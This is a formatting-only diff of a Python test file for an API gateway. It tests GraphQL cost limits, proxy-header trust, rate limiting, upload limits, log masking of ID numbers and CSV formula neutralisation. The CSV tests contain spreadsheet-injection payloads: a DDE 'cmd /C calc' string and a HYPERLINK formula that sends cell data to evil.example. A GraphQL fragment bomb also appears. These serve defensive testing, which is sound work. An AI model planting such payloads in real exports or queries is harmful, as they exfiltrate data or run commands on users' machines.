@@ -51,8 +51,13 @@ def penalty_records() -> list[dict[str, Any]]:
 
 
 def submit(api: Api, body: bytes, content_type: str, **kwargs: Any) -> Any:
-    return api.post(f"/api/v1/datasets/{PENALTY}/submissions", content=body,
-                    headers={"content-type": content_type}, role=Role.ADMIN, **kwargs)
+    return api.post(
+        f"/api/v1/datasets/{PENALTY}/submissions",
+        content=body,
+        headers={"content-type": content_type},
+        role=Role.ADMIN,
+        **kwargs,
+    )
 
 
 # -- GraphQL cost ------------------------------------------------------------------------------
@@ -81,8 +86,9 @@ def test_a_field_selected_500_times_is_refused_before_validation(rest: Api) -> N
 
 def test_fragment_bombs_and_long_texts_are_refused(rest: Api) -> None:
     fragments = ["fragment F0 on Caller { role audience keyId }"]
-    fragments += [f"fragment F{i} on Caller {{ ...F{i - 1} ...F{i - 1} ...F{i - 1} }}"
-                  for i in range(1, 7)]
+    fragments += [
+        f"fragment F{i} on Caller {{ ...F{i - 1} ...F{i - 1} ...F{i - 1} }}" for i in range(1, 7)
+    ]
     bomb = "{ caller { ...F6 } } " + " ".join(fragments)
     assert codes(graphql(rest, bomb)) == {"TOO_MANY_FIELDS"}
     long = "{ caller { role } }" + " " * 40_000
@@ -157,8 +163,9 @@ def test_forwarded_for_is_believed_from_a_trusted_proxy(make_api: Callable[..., 
             for i in range(4)
         ]
         same = [
-            api.get("/api/v1/datasets",
-                    headers={"x-forwarded-for": "10.9.9.9, 127.0.0.1"}).status_code
+            api.get(
+                "/api/v1/datasets", headers={"x-forwarded-for": "10.9.9.9, 127.0.0.1"}
+            ).status_code
             for _ in range(3)
         ]
     assert distinct == [200] * 4
@@ -175,13 +182,24 @@ def test_failed_keys_are_throttled_per_address(make_api: Callable[..., Any]) -> 
         refused(blocked, 429)
         good = api.key(Role.AGENCY)
         # the blocked address is refused even with a good key; another address is not
-        assert api.get("/api/v1/datasets", headers={"authorization": f"Bearer {good}",
-                                                    "x-forwarded-for": "10.1.1.1"}).status_code == 429
-        assert api.get("/api/v1/datasets", headers={"authorization": f"Bearer {good}",
-                                                    "x-forwarded-for": "10.2.2.2"}).status_code == 200
+        assert (
+            api.get(
+                "/api/v1/datasets",
+                headers={"authorization": f"Bearer {good}", "x-forwarded-for": "10.1.1.1"},
+            ).status_code
+            == 429
+        )
+        assert (
+            api.get(
+                "/api/v1/datasets",
+                headers={"authorization": f"Bearer {good}", "x-forwarded-for": "10.2.2.2"},
+            ).status_code
+            == 200
+        )
         # public reads from the blocked address are not affected
-        assert api.get("/api/v1/datasets",
-                       headers={"x-forwarded-for": "10.1.1.1"}).status_code == 200
+        assert (
+            api.get("/api/v1/datasets", headers={"x-forwarded-for": "10.1.1.1"}).status_code == 200
+        )
 
 
 # -- acknowledgements ---------------------------------------------------------------------------
@@ -190,8 +208,9 @@ def test_failed_keys_are_throttled_per_address(make_api: Callable[..., Any]) -> 
 @pytest.mark.parametrize("role", [Role.PUBLIC, Role.DEPARTMENT, Role.ADMIN])
 def test_only_partners_acknowledge_the_feed(rest: Api, role: Role) -> None:
     department = "11420103MB0H3T618F" if role is Role.DEPARTMENT else None
-    refused(rest.post("/api/v1/changes/ack", json={"cursor": 1}, role=role,
-                      department=department), 403)
+    refused(
+        rest.post("/api/v1/changes/ack", json={"cursor": 1}, role=role, department=department), 403
+    )
     lag = rest.json("/api/v1/admin/acks", role=Role.ADMIN)
     assert lag["acks"] == []
 
@@ -247,8 +266,9 @@ def test_too_many_rows_or_a_huge_cell_write_nothing(make_api: Callable[..., Any]
             assert "max_batch_rows" in refused(submit(api, body, content_type), 413)["error"]
         huge = copy.deepcopy(records[:2])
         huge[1]["violation_facts"] = "违" * 400  # 1,200 bytes of UTF-8
-        body = refused(submit(api, json.dumps(huge, ensure_ascii=False).encode(),
-                              "application/json"), 413)
+        body = refused(
+            submit(api, json.dumps(huge, ensure_ascii=False).encode(), "application/json"), 413
+        )
         assert "row 2" in body["error"] and "max_cell_bytes" in body["error"]
         assert batches(api) == 0 and api.store.records(PENALTY) == []
 
@@ -294,8 +314,15 @@ def test_uploads_per_key_are_limited(make_api: Callable[..., Any]) -> None:
 
 
 def test_neutralise_follows_owasp() -> None:
-    for cell in ("=HYPERLINK(\"http://x\",\"y\")", "+1+2", "-cmd|' /C calc'!A0", "@SUM(A1)",
-                 "\t=1", "\r=1", "-1+2"):
+    for cell in (
+        '=HYPERLINK("http://x","y")',
+        "+1+2",
+        "-cmd|' /C calc'!A0",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        "-1+2",
+    ):
         assert neutralise(cell) == "'" + cell
     for cell in ("-12.5", "+3", "-1e5", "0.2", "武汉", "a=b", "", "'=already"):
         assert neutralise(cell) == cell
@@ -305,11 +332,11 @@ def test_the_csv_download_neutralises_formulas(rest_empty: Api) -> None:
     record = dict(penalty_records()[0])
     record["penalty_content"] = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
     record["violation_facts"] = "@SUM(1+1)*cmd|' /C calc'!A0"
-    r = submit(rest_empty, json.dumps([record], ensure_ascii=False).encode(),
-               "application/json")
+    r = submit(rest_empty, json.dumps([record], ensure_ascii=False).encode(), "application/json")
     assert r.status_code == 200, r.text
-    text = rest_empty.get(f"/api/v1/datasets/{PENALTY}/download.csv",
-                          role=Role.PLATFORM).content.decode("utf-8-sig")
+    text = rest_empty.get(
+        f"/api/v1/datasets/{PENALTY}/download.csv", role=Role.PLATFORM
+    ).content.decode("utf-8-sig")
     cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
     assert "'" + record["penalty_content"] in cells
     assert "'" + record["violation_facts"] in cells
@@ -326,15 +353,20 @@ def test_personal_numbers_are_masked_in_access_logs() -> None:
     from gateway.logs import DisconnectFilter, PersonalNumberFilter
 
     record = logging.LogRecord(
-        "uvicorn.access", logging.INFO, __file__, 1, '%s - "%s %s HTTP/%s" %d',
+        "uvicorn.access",
+        logging.INFO,
+        __file__,
+        1,
+        '%s - "%s %s HTTP/%s" %d',
         ("127.0.0.1:5000", "GET", "/api/v1/checks?creditCode=42010619900307003X&x=1", "1.1", 200),
         None,
     )
     assert PersonalNumberFilter().filter(record)
     line = record.getMessage()
     assert "42010619900307003X" not in line and "420106********003X" in line
-    uscc = logging.LogRecord("x", logging.INFO, __file__, 1, "/entities/91420100MA4K0A1B6L",
-                             None, None)
+    uscc = logging.LogRecord(
+        "x", logging.INFO, __file__, 1, "/entities/91420100MA4K0A1B6L", None, None
+    )
     PersonalNumberFilter().filter(uscc)
     assert uscc.getMessage() == "/entities/91420100MA4K0A1B6L"
     from starlette.requests import ClientDisconnect
@@ -344,8 +376,15 @@ def test_personal_numbers_are_masked_in_access_logs() -> None:
     except ClientDisconnect:
         import sys
 
-        hangup = logging.LogRecord("uvicorn.error", logging.ERROR, __file__, 1,
-                                   "Exception in ASGI application", None, sys.exc_info())
+        hangup = logging.LogRecord(
+            "uvicorn.error",
+            logging.ERROR,
+            __file__,
+            1,
+            "Exception in ASGI application",
+            None,
+            sys.exc_info(),
+        )
     DisconnectFilter().filter(hangup)
     assert hangup.exc_info is None and hangup.levelno == logging.INFO
     assert hangup.getMessage() == (
@@ -379,8 +418,12 @@ def test_serving_refuses_the_development_secret_unless_told(
 def test_a_batch_and_its_status_are_visible_to_its_submitter(rest_empty: Api) -> None:
     own = "11420103MB0H3T618F"
     records = [r for r in penalty_records() if r["source_org_uscc"] == own]
-    r = rest_empty.post(f"/api/v1/datasets/{PENALTY}/submissions", json=records,
-                        role=Role.DEPARTMENT, department=own)
+    r = rest_empty.post(
+        f"/api/v1/datasets/{PENALTY}/submissions",
+        json=records,
+        role=Role.DEPARTMENT,
+        department=own,
+    )
     assert r.status_code == 200, r.text
     batch_id = r.json()["batch_id"]
     url = f"/api/v1/batches/{batch_id}"
